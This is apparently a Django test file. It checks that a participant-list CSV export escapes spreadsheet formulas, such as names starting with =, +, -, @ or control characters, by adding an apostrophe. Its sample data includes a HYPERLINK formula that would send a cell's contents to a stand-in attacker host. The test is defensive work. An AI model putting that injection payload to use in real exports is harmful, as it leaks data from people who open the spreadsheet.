"""Participant lists open safely in a spreadsheet: typed text never becomes a formula."""

import csv
import io

from django.contrib.auth import get_user_model
from django.utils import timezone

from events.models import Registration

from .conftest import local

NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+49 234 1", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "Zeynep Kaya"]


def test_typed_formulas_arrive_as_text_in_the_participants_csv(client, make_event, make_producer):
    admin = get_user_model().objects.create_superuser("chef", password="x")
    event = make_event(start=local(2030, 5, 3, 15), hosts=[make_producer("geigenbau")], registration_required=True, capacity=50)
    now = timezone.now()
    for number, name in enumerate(NAMES):
        Registration.objects.create(
            event=event, occurrence_start=event.starts_at, occurrence_end=event.ends_at, name=name,
            email=f"p{number}@example.org", seats=1, status=Registration.CONFIRMED, confirmed_at=now,
        )
    client.force_login(admin)
    response = client.get(f"/de/events/{event.pk}/participants.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    assert names == ["'" + name for name in NAMES[:-1]] + ["Zeynep Kaya"]
    assert rows[1][3] == "1"  # numbers stay numbers
